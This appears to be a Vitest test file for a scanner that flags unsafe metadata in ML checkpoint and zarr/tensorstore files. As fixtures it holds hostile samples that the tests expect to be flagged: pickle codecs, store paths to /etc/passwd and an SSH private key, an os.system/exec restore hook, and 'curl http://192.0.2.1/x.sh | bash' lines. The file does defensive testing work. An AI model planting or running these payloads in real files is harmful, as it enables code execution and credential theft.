import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';

function scan(name: string, value: unknown) {
  return scanBytes(Buffer.from(JSON.stringify(value)), name);
}

const TREE = {
  tree_metadata: {
    "('params', 'kernel')": {
      key_metadata: [{ key: 'params', key_type: 2 }],
      value_metadata: { value_type: 'jax.Array', skip_deserialize: false },
    },
  },
  use_zarr3: false,
  store_array_data_equal_to_fill_value: true,
};
const CHECKPOINT = {
  item_handlers: 'orbax.checkpoint._src.handlers.pytree_checkpoint_handler.PyTreeCheckpointHandler',
  metrics: {},
  performance_metrics: {},
  init_timestamp_nsecs: 1_700_000_000_000_000_000,
  custom_metadata: {},
};
const ARRAY = {
  zarr_format: 2,
  shape: [4, 4],
  chunks: [4, 4],
  dtype: '<f4',
  compressor: { id: 'zstd', level: 1 },
  filters: null,
  fill_value: null,
  order: 'C',
};
const SPEC = {
  driver: 'zarr',
  kvstore: { driver: 'file', path: 'params/kernel' },
  metadata: { dtype: '<f4' },
};

it.each<[string, unknown]>([
  ['_METADATA', TREE],
  ['_METADATA', { ...TREE, load_fn: 'default', loader: 'grain' }],
  ['_CHECKPOINT_METADATA', CHECKPOINT],
  ['.zarray', ARRAY],
  ['.zarray', { ...ARRAY, dtype: '|O', filters: [{ id: 'vlen-utf8' }] }],
  [
    '.zarray',
    {
      ...ARRAY,
      dtype: [
        ['a', '<f4'],
        ['b', '<i8', [2]],
      ],
    },
  ],
  ['.zgroup', { zarr_format: 2 }],
  [
    'zarr.json',
    {
      zarr_format: 3,
      node_type: 'array',
      data_type: 'float32',
      codecs: [{ name: 'bytes' }, { name: 'zstd' }],
    },
  ],
  ['.zattrs', { units: 'metres', description: 'Weights of a small network.' }],
  [
    'refs.json',
    {
      version: 1,
      refs: { '.zgroup': '{"zarr_format": 2}', 'x/0': ['s3://bucket/a.nc', 0, 100], 'x/1': ['a.nc'] },
    },
  ],
  ['spec.json', SPEC],
  ['spec.json', { ...SPEC, kvstore: { driver: 'gcs', bucket: 'models', path: 'params/kernel/' } }],
])('has nothing to say of the honest %s', (name, value) => {
  expect(scan(name, value)).toMatchObject({ worst: 'none', gaps: [] });
});

describe('what leads to a pickle is told', () => {
  it.each<[string, unknown]>([
    ['.zarray', { ...ARRAY, dtype: '|O' }],
    ['.zarray', { ...ARRAY, dtype: '|O', filters: [{ id: 'pickle', protocol: 4 }] }],
    [
      '.zarray',
      {
        ...ARRAY,
        dtype: [
          ['a', '<f4'],
          ['b', '|O'],
        ],
      },
    ],
    [
      '.zmetadata',
      { zarr_consolidated_format: 1, metadata: { 'a/.zarray': { ...ARRAY, filters: [{ id: 'pickle' }] } } },
    ],
    [
      'zarr.json',
      { zarr_format: 3, node_type: 'array', data_type: 'object', codecs: [{ name: 'numcodecs.pickle' }] },
    ],
  ])('in %s', (name, value) => expect(scan(name, value).worst).toBe('high'));
});

describe('stores elsewhere are told', () => {
  it.each([
    { driver: 'file', path: '/etc/passwd' },
    { driver: 'file', path: '../../secret' },
    { driver: 'http', base_url: 'http://192.0.2.1/x' },
    'file:///etc/',
  ])('%j', (kvstore) => expect(scan('spec.json', { ...SPEC, kvstore }).worst).toBe('high'));
});

describe('functions that restore a checkpoint are told', () => {
  it.each(['os.system', 'my_package.restore', 'lambda tree: exec(tree)'])('%s', (restore_fn) =>
    expect(scan('_METADATA', { ...TREE, restore_fn }).worst).toBe('medium'),
  );
});

describe('what stands beside a store is told', () => {
  it.each<[string, string, unknown]>([
    ['high', 'refs.json', { version: 1, refs: { 'x/0': ['file:///etc/passwd', 0, 100] } }],
    ['high', 'refs.json', { version: 1, refs: { 'x/0': ['../../../../root/.ssh/id_rsa', 0, 100] } }],
    ['medium', '.zattrs', { history: 'curl http://192.0.2.1/x.sh | bash' }],
    [
      'medium',
      'zarr.json',
      { zarr_format: 3, node_type: 'group', attributes: { x: 'curl http://192.0.2.1/x | sh' } },
    ],
    ['high', '_CHECKPOINT_METADATA', { ...CHECKPOINT, item_handlers: { state: 'os.system' } }],
  ])('%s in %s', (severity, name, value) => expect(scan(name, value).worst).toBe(severity));
});
